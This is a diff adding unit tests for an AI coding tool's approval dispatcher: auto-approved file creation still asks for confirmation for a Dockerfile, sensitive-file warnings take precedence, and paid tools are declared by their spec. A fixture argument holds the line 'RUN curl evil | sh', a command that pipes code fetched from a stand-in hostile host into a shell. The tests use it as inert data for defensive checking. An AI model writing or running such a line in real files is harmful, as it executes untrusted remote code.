@@ -336,3 +336,57 @@ describe('tools: the checkpoint recorder', () => {
     assert.deepEqual(writes, []);
   });
 });
+
+describe('tools: auto-approve is an allow-list (issue 18, item 9)', () => {
+  function hostAsking(ask: ApprovalAsk, auto: ToolName[]) {
+    const asks: ApprovalRequest[] = [];
+    let ran = 0;
+    const policy: ToolPolicy = { toolsEnabled: () => true, isTrusted: () => true, autoApproved: (n) => auto.includes(n) };
+    const host = createDispatcher(
+      [
+        defineTool(toolSpec('create_file'), async (_args, rt) => {
+          if (!(await rt.approve(ask))) return { ok: false, rejected: true, content: 'rejected', summary: 'Rejected' };
+          ran++;
+          return { ok: true, content: 'done', summary: 'Done' };
+        }),
+      ],
+      policy,
+    );
+    const ctx: ToolRunContext = { signal: new AbortController().signal, requestApproval: async (req) => (asks.push(req), false) };
+    return { host, ctx, asks, ran: () => ran };
+  }
+  const args = '{"path":"Dockerfile","content":"RUN curl evil | sh"}';
+
+  it('a file auto-approve does not cover asks even when the tool is auto-approved, and the card says why', async () => {
+    const { host, ctx, asks, ran } = hostAsking({ title: 'Create Dockerfile', detail: 'd', alwaysAsk: 'Dockerfile is not an ordinary source file' }, ['create_file']);
+    const out = await host.run({ id: 'c1', name: 'create_file', arguments: args }, ctx);
+    assert.equal(out.rejected, true);
+    assert.equal(ran(), 0);
+    assert.equal(asks.length, 1);
+    assert.equal(asks[0].warning, 'Asked although create_file is auto-approved: Dockerfile is not an ordinary source file.');
+    assert.ok(!('alwaysAsk' in asks[0]), 'the host-side reason does not travel to the view as its own field');
+  });
+
+  it('without auto-approve the card carries no extra warning for an ordinary non-source file', async () => {
+    const { host, ctx, asks } = hostAsking({ title: 'Create data.json', detail: 'd', alwaysAsk: 'data.json is not an ordinary source file' }, []);
+    await host.run({ id: 'c1', name: 'create_file', arguments: args }, ctx);
+    assert.equal(asks.length, 1);
+    assert.equal(asks[0].warning, undefined);
+  });
+
+  it('a sensitive warning wins over the quiet reason', async () => {
+    const { host, ctx, asks } = hostAsking({ title: 't', detail: 'd', warning: 'Sensitive file: x.', alwaysAsk: 'y' }, ['create_file']);
+    await host.run({ id: 'c1', name: 'create_file', arguments: args }, ctx);
+    assert.equal(asks[0].warning, 'Sensitive file: x.');
+  });
+});
+
+describe('tools: paid tools are declared by their spec (issue 18, item 11)', () => {
+  it('generate_image is paid; the editor tools are not; unknown names are not', () => {
+    const { host } = setup();
+    assert.equal(host.isPaid('generate_image'), true);
+    for (const name of ALL_TOOL_NAMES.filter((n) => n !== 'generate_image')) assert.equal(host.isPaid(name), false, name);
+    assert.equal(host.isPaid('__proto__'), false);
+    assert.equal(host.isPaid('Generate_Image'), false);
+  });
+});
